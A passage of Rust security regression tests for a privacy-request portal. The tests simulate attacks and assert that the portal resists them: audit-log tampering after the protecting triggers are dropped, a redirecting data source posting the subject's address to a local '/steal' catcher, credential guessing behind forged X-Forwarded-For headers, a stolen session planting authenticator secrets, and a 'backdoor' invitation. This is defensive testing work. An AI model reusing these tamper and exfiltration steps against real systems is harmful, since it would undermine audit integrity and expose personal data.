/// entries cut off the end left a chain that still checked out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_chain_cannot_be_rewritten_or_cut_short_unseen() {
    let app = spawn_app().await;
    for n in 0..3 {
        app.submit_access(&format!("chain{n}@example.no")).await;
    }
    let checkpoint = portal::audit::head(&app.db).await.unwrap().unwrap();
    assert_eq!(checkpoint.id, 6);
    for n in 3..5 {
        app.submit_access(&format!("chain{n}@example.no")).await;
    }
    let on = if crate::harness::on_postgres() {
        " ON audit_log"
    } else {
        ""
    };
    for trigger in ["audit_log_no_update", "audit_log_no_delete"] {
        sqlx::query(&format!("DROP TRIGGER {trigger}{on}"))
            .execute(&app.db)
            .await
            .unwrap();
    }
    // The attacker rewrites entry 3 and links every entry after it again,
    // as the chain used to be computed.
    sqlx::query("UPDATE audit_log SET detail = '{\"kind\":\"erasure\"}' WHERE id = 3")
        .execute(&app.db)
        .await
        .unwrap();
    relink_unkeyed(&app, 3).await;
    assert_eq!(
        app.audit_verdict().await,
        portal::audit::Verdict::Broken {
            id: 3,
            reason: "its content was changed"
        },
        "without the key, the links cannot be made again"
    );
    // Nor by writing the whole chain anew with plain links: that is not
    // the portal's chain either.
    relink_unkeyed(&app, 1).await;
    assert!(matches!(
        app.audit_verdict().await,
        portal::audit::Verdict::Unkeyed { unkeyed: 10, .. }
    ));
}

/// Entries cut off the end leave a chain that links up; an operator's
/// checkpoint, kept outside the database, finds the cut.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn entries_cut_off_the_end_are_found_with_a_checkpoint() {
    let app = spawn_app().await;
    for n in 0..3 {
        app.submit_access(&format!("chain{n}@example.no")).await;
    }
    let command = |args: &[&str]| {
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_server"))
            .args(args)
            .env("DATABASE_URL", &app.database_url)
            .env("PORTAL_DATA_DIR", app.data_dir())
            .env("PORTAL_CONTENT_DIR", app.content_dir())
            .env("RUST_LOG", "error")
            .output()
            .unwrap();
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stdout).trim().to_owned(),
        )
    };
    let (status, checkpoint) = command(&["audit", "checkpoint"]);
    assert_eq!(status, Some(0));
    assert!(
        checkpoint.starts_with("6:") && checkpoint.len() == 66,
        "{checkpoint}"
    );
    app.submit_access("later@example.no").await;
    let (status, report) = command(&["audit", "verify", "--checkpoint", &checkpoint]);
    assert_eq!(status, Some(0), "{report}");
    assert!(
        report.contains("intact: 8 entries") && report.contains("reaches checkpoint 6"),
        "{report}"
    );

    let on = if crate::harness::on_postgres() {
        " ON audit_log"
    } else {
        ""
    };
    sqlx::query(&format!("DROP TRIGGER audit_log_no_delete{on}"))
        .execute(&app.db)
        .await
        .unwrap();
    sqlx::query("DELETE FROM audit_log WHERE id >= 5")
        .execute(&app.db)
        .await
        .unwrap();
    let (status, report) = command(&["audit", "verify"]);
    assert_eq!(
        status,
        Some(0),
        "on its own the shorter chain links up: {report}"
    );
    let (status, report) = command(&["audit", "verify", "--checkpoint", &checkpoint]);
    assert_eq!(status, Some(1));
    assert!(
        report.contains("BROKEN at entry 6") && report.contains("cut off the end"),
        "{report}"
    );
    let (status, _) = command(&["audit", "verify", "--checkpoint", "6:nonsense"]);
    assert_eq!(status, Some(2), "a malformed checkpoint is refused");
}

/// An audit chain written before it was keyed is checked and keyed once,
/// by the operator (`server audit key`), never by a server on its own: a
/// chain someone wrote anew with plain links (which anyone can compute)
/// must not pass for the portal's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_chain_with_plain_links_fails_verification_until_the_operator_keys_it() {
    let app = spawn_app().await;
    for n in 0..2 {
        app.submit_access(&format!("old{n}@example.no")).await;
    }
    // What the previous build wrote, or what a database writer wrote over
    // the whole chain: plain SHA-256 links throughout.
    let on = if crate::harness::on_postgres() {
        " ON audit_log"
    } else {
        ""
    };
    sqlx::query(&format!("DROP TRIGGER audit_log_no_update{on}"))
        .execute(&app.db)
        .await
        .unwrap();
    relink_unkeyed(&app, 1).await;
    let app = app.crash_and_restart().await;
    assert_eq!(
        app.audit_verdict().await,
        portal::audit::Verdict::Unkeyed {
            entries: 4,
            unkeyed: 4
        },
        "a restart keys nothing"
    );
    let command = |args: &[&str]| {
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_server"))
            .args(args)
            .env("DATABASE_URL", &app.database_url)
            .env("PORTAL_DATA_DIR", app.data_dir())
            .env("PORTAL_CONTENT_DIR", app.content_dir())
            .env("RUST_LOG", "error")
            .output()
            .unwrap();
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stdout).trim().to_owned(),
        )
    };
    let (status, report) = command(&["audit", "verify"]);
    assert_eq!(status, Some(1));
    assert!(
        report.contains("NOT KEYED") && report.contains("server audit key"),
        "{report}"
    );
    let (status, report) = command(&["audit", "key"]);
    assert_eq!(status, Some(0), "{report}");
    assert!(report.contains("4 entries"), "{report}");
    let (status, report) = command(&["audit", "verify"]);
    assert_eq!(status, Some(0), "{report}");
    assert_eq!(
        command(&["audit", "key"]).1,
        "audit log already keyed: nothing to do"
    );
    assert!(
        sqlx::query("UPDATE audit_log SET action = 'x' WHERE id = 1")
            .execute(&app.db)
            .await
            .is_err(),
        "append-only again after the keying"
    );
    // New entries go on the keyed chain.
    app.submit_access("new@example.no").await;
    assert_eq!(
        app.audit_verdict().await,
        portal::audit::Verdict::Intact { entries: 6 }
    );
}

/// Links the chain again from entry `from` on with plain SHA-256, as builds
/// before the keyed chain did (and as anyone without the key can).
async fn relink_unkeyed(app: &TestApp, from: i64) {
    #[derive(serde::Serialize)]
    struct Hashed<'a> {
        prev_hash: &'a str,
        id: i64,
        at: i64,
        actor_kind: &'a str,
        actor: &'a str,
        org: &'a str,
        action: &'a str,
        target: &'a str,
        detail: &'a str,
    }
    let rows: Vec<portal::store::ChainRow> = sqlx::query_as(
        "SELECT id, at, actor_kind, actor, org, action, target, detail, prev_hash, hash FROM audit_log ORDER BY id",
    )
    .fetch_all(&app.db)
    .await
    .unwrap();
    let mut prev = rows
        .iter()
        .find(|row| row.id == from - 1)
        .map(|row| row.hash.clone())
        .unwrap_or_else(|| portal::audit::GENESIS.to_owned());
    for row in rows.iter().filter(|row| row.id >= from) {
        let hashed = Hashed {
            prev_hash: &prev,
            id: row.id,
            at: row.at,
            actor_kind: &row.actor_kind,
            actor: &row.actor,
            org: &row.org,
            action: &row.action,
            target: &row.target,
            detail: &row.detail,
        };
        let hash = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
            serde_json::to_vec(&hashed).unwrap(),
        ));
        sqlx::query("UPDATE audit_log SET prev_hash = $1, hash = $2 WHERE id = $3")
            .bind(&prev)
            .bind(&hash)
            .bind(row.id)
            .execute(&app.db)
            .await
            .unwrap();
        prev = hash;
    }
}

/// Hole 6: a source's error text (PostgreSQL quotes the value it could not
/// read, here the subject's address) went into the append-only audit log
/// and the logs as it came.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_failing_source_says_reaches_neither_the_audit_log_nor_the_logs() {
    let dir = tempfile::tempdir().unwrap();
    let content = crate::harness::test_content(dir.path());
    let org = content.join("orgs/quoting");
    std::fs::create_dir_all(org.join("notice")).unwrap();
    std::fs::copy(
        content.join("orgs/other/notice/en.md"),
        org.join("notice/en.md"),
    )
    .unwrap();
    std::fs::write(
        org.join("org.toml"),
        r#"name = "Quoting AS"
contact_email = "privacy@quoting.example"
require_two_factor = false

[[categories]]
id = "identity"
name = "Identity"
purpose = "Contract"
legal_basis = "Art. 6(1)(b)"
retention = "3 years"
source = "You"

[[sources]]
name = "CRM"
type = "sql"
url = "postgres://postgres@127.0.0.1:5432/postgres"
[[sources.queries]]
category = "identity"
sql = "SELECT CAST(:email AS integer) AS customer"
"#,
    )
    .unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let database = if crate::harness::on_postgres() {
        crate::harness::fresh_postgres_database().await
    } else {
        format!("sqlite://{}/portal.db", data.display())
    };
    let created = std::process::Command::new(env!("CARGO_BIN_EXE_server"))
        .args([
            "admin",
            "create",
            "--org",
            "quoting",
            "--email",
            "staff@quoting.example",
            "--role",
            "agent",
        ])
        .env("PORTAL_DATA_DIR", &data)
        .env("PORTAL_CONTENT_DIR", &content)
        .env("DATABASE_URL", &database)
        .env("PORTAL_ADMIN_PASSWORD", STAFF_PASSWORD)
        .env("RUST_LOG", "error")
        .output()
        .unwrap();
    assert!(
        created.status.success(),
        "{}",
        String::from_utf8_lossy(&created.stderr)
    );
    let (mail, smtp) = crate::harness::SmtpSink::start().await;
    let (mut server, base, lines) =
        crate::harness::logged_server_process(&database, &data, &content, smtp);
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let email = "kari.quoted@example.no";
    let submitted: serde_json::Value = client
        .post(format!("{base}/api/v1/requests"))
        .json(&serde_json::json!({"org": "quoting", "kind": "access", "email": email}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let reference = submitted["reference"].as_str().unwrap().to_owned();
    let code = mail.wait_for(1).await.code();
    let verified = client
        .post(format!("{base}/api/v1/requests/{reference}/verify"))
        .json(&serde_json::json!({ "code": code }))
        .send()
        .await
        .unwrap();
    assert_eq!(verified.status(), 200);
    let login = client
        .post(format!("{base}/_sfn/console/login"))
        .header("accept", "text/html")
        .form(&[
            ("email", "staff@quoting.example"),
            ("password", STAFF_PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    let cookie = set_cookie(&login, "portal_staff").expect("signed in");
    let collected = client
        .post(format!(
            "{base}/console/o/quoting/requests/{reference}/collect"
        ))
        .header("cookie", &cookie)
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert!(
        location(&collected).ends_with("done=collected_with_failures"),
        "{}",
        location(&collected)
    );
    // Staff still read what the source said, on the request's page.
    let page = client
        .get(format!("{base}/console/o/quoting/requests/{reference}"))
        .header("cookie", &cookie)
        .header("accept", "text/html")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("invalid input syntax"),
        "the source's words, for staff"
    );
    server.kill().unwrap();
    server.wait().unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;

    let db = crate::harness::connect_db(&database).await;
    let failed: Vec<String> =
        sqlx::query_scalar("SELECT detail FROM audit_log WHERE action = 'export.source_failed'")
            .fetch_all(&db)
            .await
            .unwrap();
    assert_eq!(failed.len(), 1);
    assert!(
        failed[0].contains("query_failed"),
        "audited as a class: {}",
        failed[0]
    );
    let entries: Vec<(String, String, String)> =
        sqlx::query_as("SELECT actor, target, detail FROM audit_log")
            .fetch_all(&db)
            .await
            .unwrap();
    for (actor, target, detail) in &entries {
        for text in [actor, target, detail] {
            assert!(
                !text.contains("kari.quoted") && !text.contains("invalid input"),
                "audited: {text}"
            );
        }
    }
    let stored: Vec<(Option<String>, Option<String>)> =
        sqlx::query_as("SELECT detail, failure FROM source_runs")
            .fetch_all(&db)
            .await
            .unwrap();
    assert_eq!(stored.len(), 1);
    assert!(
        stored[0]
            .0
            .as_deref()
            .is_some_and(|d| d.starts_with("sealed2:")),
        "sealed at rest"
    );
    assert_eq!(stored[0].1.as_deref(), Some("query_failed"));
    let logs = lines.lock().unwrap().join("\n");
    assert!(
        logs.contains("a data source failed"),
        "the failure is logged: {logs}"
    );
    assert!(!logs.contains("kari.quoted"), "the address is in the logs");
    assert!(
        !logs.contains("invalid input syntax"),
        "the source's words are in the logs"
    );
}

/// Hole 9: an HTTP source's redirect was followed, posting the subject's
/// address, signed, wherever it pointed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_http_source_that_redirects_is_not_followed() {
    use axum::{routing::post, Router};
    use std::sync::{
        atomic::{AtomicUsize, Ordering},
        Arc,
    };
    let caught = Arc::new(AtomicUsize::new(0));
    let catcher = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let elsewhere = format!("http://{}/steal", catcher.local_addr().unwrap());
    let counter = caught.clone();
    tokio::spawn(async move {
        let app = Router::new().route(
            "/steal",
            post(move || {
                counter.fetch_add(1, Ordering::SeqCst);
                async { "{\"categories\": {}}" }
            }),
        );
        axum::serve(catcher, app).await.unwrap()
    });
    let source = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let lookup = format!("http://{}/lookup", source.local_addr().unwrap());
    tokio::spawn(async move {
        let target = elsewhere.clone();
        let app = Router::new().route(
            "/lookup",
            post(move || {
                let target = target.clone();
                async move { axum::response::Redirect::temporary(&target) }
            }),
        );
        axum::serve(source, app).await.unwrap()
    });
    let toml = format!(
        r#"name = "Redirected AS"
contact_email = "privacy@redirected.example"
require_two_factor = false

[[categories]]
id = "payments"
name = "Payments"
purpose = "Invoicing"
legal_basis = "Art. 6(1)(c)"
retention = "5 years"
source = "Billing"

[[sources]]
name = "Billing"
type = "http"
url = "{lookup}"
secret = "shared"
categories = ["payments"]
"#
    );
    let app = spawn_app_with_org("redirected", &toml).await;
    let (reference, _) = app
        .verified_request(
            serde_json::json!({"org": "redirected", "kind": "access", "email": "kari@example.no"}),
        )
        .await;
    let mut agent = app
        .staff("agent@redirected.example", "redirected", Role::Agent, false)
        .await;
    let cookie = app.staff_cookie(&mut agent).await;
    let collected = app
        .client
        .post(app.url(&format!(
            "/console/o/redirected/requests/{reference}/collect"
        )))
        .header("cookie", &cookie)
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert!(location(&collected).ends_with("done=collected_with_failures"));
    assert_eq!(
        caught.load(Ordering::SeqCst),
        0,
        "nothing was posted where the redirect pointed"
    );
    let failure: Option<String> = sqlx::query_scalar("SELECT failure FROM source_runs")
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(failure.as_deref(), Some("redirected"));
}

/// Hole 5: a password check ran inside the write lock, so a flood of
/// sign-ins stalled every submission; a repeated GPC signal took it for
/// nothing. Here the test holds the portal's write lock (PostgreSQL's
/// advisory lock, as another writer would) and both still answer. On
/// SQLite one writer holds the whole file, which every write waits for,
/// so there the part that matters is that hashing happens before the
/// write begins; this runs on PostgreSQL.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_ins_and_repeated_signals_do_not_wait_for_the_write_lock() {
    if !crate::harness::on_postgres() {
        return;
    }
    use sqlx::Connection;
    let app = spawn_app().await;
    let (_, token) = app.verified_subject("kari@example.no").await;
    let cookie = format!("portal_session={token}");
    let gpc = || {
        let (app, cookie) = (&app, cookie.clone());
        async move {
            app.client
                .get(app.url("/o/demo"))
                .header("cookie", cookie)
                .header("sec-gpc", "1")
                .header("accept", "text/html")
                .timeout(std::time::Duration::from_secs(20))
                .send()
                .await
                .expect("answered while the write lock is held")
                .status()
        }
    };
    assert_eq!(gpc().await, 200, "the first signal is recorded");
    let mut holder = sqlx::PgConnection::connect(&app.database_url)
        .await
        .unwrap();
    sqlx::query("SELECT 1 FROM (SELECT pg_advisory_lock(1347570006)) AS l")
        .execute(&mut holder)
        .await
        .unwrap();
    assert_eq!(gpc().await, 200, "a repeated signal writes nothing");
    let login = app
        .client
        .post(app.url("/_sfn/console/login"))
        .form(&[
            ("email", "nobody@fjordlys.example"),
            ("password", "a guess at a password"),
        ])
        .timeout(std::time::Duration::from_secs(20))
        .send()
        .await
        .expect("answered while the write lock is held");
    assert_eq!(login.status(), 401);
    sqlx::query("SELECT pg_advisory_unlock_all()")
        .execute(&mut holder)
        .await
        .unwrap();
    assert_eq!(app.count("consent_receipts").await, 1);
}

/// An organisation's host name used to be cosmetic: server functions and
/// the API answered for any organisation on it. Now it serves its own
/// organisation alone, at every door (the portal's own address still
/// serves every organisation).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_organisations_host_speaks_for_no_other_organisation() {
    let app = spawn_app_with_org(
        "hosted",
        "name = \"Hosted AS\"\ncontact_email = \"privacy@hosted.example\"\nhosts = [\"privacy.hosted.test\"]\n",
    )
    .await;
    let port = app.address.rsplit(':').next().unwrap().to_owned();
    let hosted = format!("privacy.hosted.test:{port}");
    let (demo_ref, demo_token) = app.verified_subject("kari@example.no").await;
    let on_host = |method: reqwest::Method, path: String| {
        app.client
            .request(method, app.url(&path))
            .header("host", &hosted)
    };
    // Server functions naming another organisation.
    for (function, form) in [
        ("organisation", vec![("org", "demo")]),
        ("notice", vec![("org", "demo")]),
        (
            "track_request",
            vec![("org", "demo"), ("reference", demo_ref.as_str())],
        ),
        (
            "submit_request",
            vec![
                ("org", "demo"),
                ("kind", "access"),
                ("email", "x@example.no"),
            ],
        ),
    ] {
        let response = on_host(reqwest::Method::POST, format!("/_sfn/{function}"))
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 404, "{function}");
    }
    // The REST API: submitting for, verifying and reading another's requests.
    let submitted = on_host(reqwest::Method::POST, "/api/v1/requests".into())
        .json(&serde_json::json!({"org": "demo", "kind": "access", "email": "x@example.no"}))
        .send()
        .await
        .unwrap();
    assert_eq!(submitted.status(), 404);
    let verified = on_host(
        reqwest::Method::POST,
        format!("/api/v1/requests/{demo_ref}/verify"),
    )
    .json(&serde_json::json!({"code": "123456"}))
    .send()
    .await
    .unwrap();
    assert_eq!(verified.status(), 404);
    let read = on_host(reqwest::Method::GET, format!("/api/v1/requests/{demo_ref}"))
        .bearer_auth(&demo_token)
        .send()
        .await
        .unwrap();
    assert_eq!(
        read.status(),
        401,
        "demo's session is no session on hosted's host"
    );
    let notice = on_host(reqwest::Method::GET, "/api/v1/orgs/demo/notice.json".into())
        .send()
        .await
        .unwrap();
    assert_eq!(notice.status(), 404);
    // Its own organisation works there, and the portal's address serves both.
    let own = on_host(reqwest::Method::POST, "/api/v1/requests".into())
        .json(&serde_json::json!({"org": "hosted", "kind": "access", "email": "x@example.no"}))
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), 201);
    assert_eq!(
        app.get_json(&format!("/api/v1/requests/{demo_ref}"), Some(&demo_token))
            .await
            .0,
        200
    );
}

/// Two doors used to answer another organisation's session differently
/// (401 in one, 404 in others). Now it is no session wherever a door names
/// an organisation: answered exactly as without one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_organisations_session_is_answered_as_no_session_at_every_door() {
    let app = spawn_app().await;
    let (reference, _) = app.verified_subject("kari@example.no").await;
    let other = app
        .verified_request(
            serde_json::json!({"org": "other", "kind": "access", "email": "kari@example.no"}),
        )
        .await
        .1;
    for path in [
        format!("/o/demo/requests/{reference}/attachments/1"),
        format!("/o/demo/requests/{reference}/export"),
        "/o/demo/consents.json".to_owned(),
        "/_sfn/my_requests".to_owned(),
    ] {
        let ask = |cookie: Option<String>| {
            let app = &app;
            let path = path.clone();
            async move {
                let request = if path.starts_with("/_sfn/") {
                    app.client.post(app.url(&path)).form(&[("org", "demo")])
                } else {
                    app.client.get(app.url(&path))
                };
                let request = match cookie {
                    Some(cookie) => request.header("cookie", cookie),
                    None => request,
                };
                request.send().await.unwrap().status().as_u16()
            }
        };
        let anonymous = ask(None).await;
        let foreign = ask(Some(format!("portal_session={other}"))).await;
        assert_eq!(anonymous, 401, "{path}");
        assert_eq!(foreign, anonymous, "{path}: another organisation's session");
    }
}

/// Hole 9: a sealed value was bound to its column only, so someone with
/// write access to the database could copy Kari's sealed address into a
/// request of their own and have the portal mail her their code.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sealed_address_copied_into_another_request_does_not_open() {
    let app = spawn_app().await;
    let kari = app.submit_access("kari@example.no").await;
    let mallory = app.submit_access("mallory@example.no").await;
    let _ = app.mail.wait_for(2).await;
    let (sealed, index): (String, String) =
        sqlx::query_as("SELECT email, email_index FROM requests WHERE reference = $1")
            .bind(&kari)
            .fetch_one(&app.db)
            .await
            .unwrap();
    sqlx::query("UPDATE requests SET email = $1, email_index = $2 WHERE reference = $3")
        .bind(&sealed)
        .bind(&index)
        .bind(&mallory)
        .execute(&app.db)
        .await
        .unwrap();
    sqlx::query("UPDATE verification_codes SET created_at = created_at - 61")
        .execute(&app.db)
        .await
        .unwrap();
    let resent = app.resend(&mallory).await;
    assert!(!resent.status().is_success(), "{}", resent.status());
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(
        app.mail_count().await,
        2,
        "no mail went to Kari for Mallory's request"
    );
    // Kari's own request is untouched and still reaches her.
    let _ = kari;
}

/// Guessing one address's password from many networks: once the address
/// has been guessed at widely, every answer to a password alone is the
/// same, so the right one does not show; an account with a second factor
/// still signs in, since the factor proves its owner.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_from_many_networks_never_tells_a_right_password_from_a_wrong_one() {
    let app = behind_a_proxy().await;
    app.staff("plain@fjordlys.example", "demo", Role::Agent, false)
        .await;
    app.staff("enrolled@fjordlys.example", "demo", Role::Agent, true)
        .await;
    let login = |client: String, email: &'static str, password: &'static str| {
        let app = &app;
        async move {
            app.client
                .post(app.url("/_sfn/console/login"))
                .header("x-forwarded-for", client)
                .form(&[("email", email), ("password", password)])
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    for email in ["plain@fjordlys.example", "enrolled@fjordlys.example"] {
        for n in 0..=portal::service::GLOBAL_FAILURE_LIMIT {
            let status = login(
                format!("203.0.{}.{}", n / 200, n % 200 + 1),
                email,
                "a guess at the password",
            )
            .await;
            assert!([401, 429].contains(&status));
        }
    }
    let fresh = || format!("198.51.100.{}", rand::random::<u8>() % 200 + 1);
    let right = login(fresh(), "plain@fjordlys.example", STAFF_PASSWORD).await;
    let wrong = login(fresh(), "plain@fjordlys.example", "another guess at it").await;
    let unknown = login(fresh(), "nobody@fjordlys.example", "another guess at it").await;
    assert_eq!(
        (right, wrong),
        (429, 429),
        "the right password looks like a wrong one"
    );
    assert_eq!(unknown, 401, "another address is not affected");
    let enrolled = app
        .client
        .post(app.url("/_sfn/console/login"))
        .header("x-forwarded-for", fresh())
        .header("accept", "text/html")
        .form(&[
            ("email", "enrolled@fjordlys.example"),
            ("password", STAFF_PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(
        location(&enrolled),
        "/console/login/code",
        "on to the second factor"
    );
}

/// A stolen session guessing the password (to mint codes or change the
/// password) is limited like a sign-in; and it neither reads nor plants the
/// owner's pending authenticator or fresh recovery codes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_session_guesses_no_password_and_sees_no_other_sessions_secrets() {
    let app = spawn_app().await;
    let mut agent = app
        .staff("agent@fjordlys.example", "demo", Role::Agent, true)
        .await;
    let owner = app.staff_cookie(&mut agent).await;
    let stolen = app.staff_cookie(&mut agent).await;

    // Each session sets up a new authenticator: each sees its own secret.
    let secret_on = |cookie: String| {
        let app = &app;
        async move {
            let (_, page) = app.page("/console/enrol", Some(&cookie)).await;
            page.split("data-secret=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap()
                .to_owned()
        }
    };
    let owners = secret_on(owner.clone()).await;
    assert_eq!(
        secret_on(owner.clone()).await,
        owners,
        "the same page twice shows the same secret"
    );
    let thiefs = secret_on(stolen.clone()).await;
    assert_ne!(thiefs, owners, "another session gets a secret of its own");
    // The owner's session is now offered a new one too (the thief's was
    // planted in its place): the thief's secret is never confirmed there.
    let offered = secret_on(owner.clone()).await;
    assert_ne!(offered, thiefs);
    let planted = app
        .post_form(
            "/_sfn/console/confirm_enrolment",
            &owner,
            &[
                ("code", &totp_code(&thiefs, &agent.email, 0)),
                ("password", STAFF_PASSWORD),
            ],
        )
        .await;
    assert_ne!(location(&planted), "/console/recovery-codes");

    // Fresh recovery codes are shown to the session that made them only.
    let renewed = app
        .post_form(
            "/_sfn/console/new_recovery_codes",
            &owner,
            &[("password", STAFF_PASSWORD)],
        )
        .await;
    assert_eq!(location(&renewed), "/console/recovery-codes");
    let (_, mine) = app.page("/console/recovery-codes", Some(&owner)).await;
    assert_eq!(mine.matches("<li><code>").count(), 10);
    agent.recovery = mine
        .split("<li><code>")
        .skip(1)
        .map(|rest| rest.split('<').next().unwrap().to_owned())
        .collect();
    // Making them ended the other sessions.
    let (status, _) = app.page("/console", Some(&stolen)).await;
    assert!(
        (300..400).contains(&status),
        "the other session ended: {status}"
    );

    // A session that guesses the password is stopped as a sign-in would be.
    let thief = app.staff_cookie(&mut agent).await;
    for _ in 0..portal::service::LOGIN_FAILURE_LIMIT {
        let status = app
            .call(
                "/_sfn/console/change_password",
                Some(&thief),
                &[
                    ("password", "a guess at the password"),
                    ("new_password", "mine now, all mine"),
                    ("repeat", "mine now, all mine"),
                ],
            )
            .await;
        assert_eq!(status, 422);
    }
    let status = app
        .call(
            "/_sfn/console/change_password",
            Some(&thief),
            &[
                ("password", STAFF_PASSWORD),
                ("new_password", "mine now, all mine"),
                ("repeat", "mine now, all mine"),
            ],
        )
        .await;
    assert_eq!(status, 429, "locked, even with the right password");
}

/// An invitation speaks for the admin who sent it while they are one: an
/// admin about to be removed cannot invite a second address of theirs and
/// come back through it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_invitation_dies_with_its_inviters_role() {
    let app = spawn_app_with_org("evil", EVIL).await;
    let mut first = app
        .staff("first@evil.example", "evil", Role::Admin, false)
        .await;
    let mut leaving = app
        .staff("leaving@evil.example", "evil", Role::Admin, false)
        .await;
    let first_cookie = app.staff_cookie(&mut first).await;
    let leaving_cookie = app.staff_cookie(&mut leaving).await;
    let invited = app
        .post_form(
            "/_sfn/console/invite",
            &leaving_cookie,
            &[
                ("org", "evil"),
                ("email", "backdoor@evil.example"),
                ("role", "admin"),
            ],
        )
        .await;
    assert_eq!(location(&invited), "/console/team?done=invited");
    let link = mailed_path(&app, "backdoor@evil.example", "/console/invitation/").await;
    let leaving_id = leaving.id.to_string();
    let removed = app
        .post_form(
            "/_sfn/console/remove_member",
            &first_cookie,
            &[("org", "evil"), ("staff_id", &leaving_id)],
        )
        .await;
    assert_eq!(location(&removed), "/console/team?done=removed");
    let token = link.rsplit('/').next().unwrap();
    let joined = app
        .call(
            "/_sfn/console/join",
            None,
            &[
                ("token", token),
                ("new_password", "back in through the door"),
                ("repeat", "back in through the door"),
            ],
        )
        .await;
    assert_eq!(joined, 422, "the link died with its sender's role");
    assert!(roles_of(&app, "backdoor@evil.example").await.is_empty());
}

/// Accounts made before invitations had the password an admin chose (and
/// maybe the second factor the admin enrolled). Upgrading, they keep
/// neither: the owner chooses a password through a mailed link and enrols
/// again; every staff session ends.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn accounts_an_admin_made_before_invitations_are_handed_to_their_owners() {
    let dir = tempfile::tempdir().unwrap();
    let backend = if crate::harness::on_postgres() {
        "postgres"
    } else {
        "sqlite"
    };
    let url = if crate::harness::on_postgres() {
        crate::harness::fresh_postgres_database().await
    } else {
        format!("sqlite://{}/older.db?mode=rwc", dir.path().display())
    };
    // The schema as it stood before this version.
    let older = dir.path().join("migrations");
    std::fs::create_dir_all(&older).unwrap();
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../portal/migrations")
        .join(backend);
    for entry in std::fs::read_dir(&shipped).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name().into_string().unwrap();
        if name.as_str() < "0020" {
            std::fs::copy(entry.path(), older.join(&name)).unwrap();
        }
    }
    let pool = crate::harness::connect_db(&url).await;
    sqlx::migrate::Migrator::new(older.as_path())
        .await
        .unwrap()
        .run(&pool)
        .await
        .unwrap();
    use argon2::PasswordHasher;
    let chosen = argon2::Argon2::default()
        .hash_password(
            b"the admin's choice",
            &argon2::password_hash::SaltString::generate(
                &mut argon2::password_hash::rand_core::OsRng,
            ),
        )
        .unwrap()
        .to_string();
    for statement in [
        // Made by an admin with a password the admin chose, and enrolled.
        "INSERT INTO staff (id, email, password_hash, created_at, totp_secret, totp_confirmed) VALUES
           (7, 'made@fjordlys.example', 'admin-chosen', 1700000000, 'JBSWY3DPEHPK3PXP', 1),
           (8, 'own@fjordlys.example', 'chosen-by-owner', 1700000000, NULL, 0)",
        "INSERT INTO staff_roles (staff_id, org, role) VALUES (7, 'demo', 'agent'), (8, 'demo', 'admin')",
        "INSERT INTO staff_sessions (token_hash, staff_id, created_at, last_seen_at, expires_at, mfa_pending)
           VALUES ('a-live-session', 8, 1700000000, 1700000000, 4000000000, 0)",
        "INSERT INTO audit_log (id, at, actor_kind, actor, org, action, target, detail, prev_hash, hash) VALUES
           (1, 1700000000, 'staff', 'staff:8', 'demo', 'staff.added', 'staff:7', '{\"new_account\":true,\"role\":\"agent\"}', 'x', 'y')",
    ] {
        sqlx::query(statement).execute(&pool).await.unwrap();
    }
    pool.close().await;

    let app = spawn_app_configured(|settings| settings.database_url = url.clone()).await;
    let (required, enrolled, secret): (i64, i64, Option<String>) = sqlx::query_as(
        "SELECT password_reset_required, totp_confirmed, totp_secret FROM staff WHERE id = 7",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert_eq!((required, enrolled, secret), (1, 0, None));
    let untouched: i64 =
        sqlx::query_scalar("SELECT password_reset_required FROM staff WHERE id = 8")
            .fetch_one(&app.db)
            .await
            .unwrap();
    assert_eq!(untouched, 0, "an account its owner made keeps its password");
    assert_eq!(
        app.count("staff_sessions").await,
        0,
        "every staff session ended"
    );
    sqlx::query("UPDATE staff SET password_hash = $1 WHERE id = 7")
        .bind(&chosen)
        .execute(&app.db)
        .await
        .unwrap();

    // The admin's password no longer signs in; the owner resets it by mail.
    assert_eq!(
        app.service
            .accounts
            .staff_login("made@fjordlys.example", "the admin's choice", &client())
            .await
            .map(|_| ()),
        Err(domain::AppError::PasswordResetRequired)
    );
    let refused = app
        .client
        .post(app.url("/_sfn/console/login"))
        .header("accept", "text/html")
        .form(&[
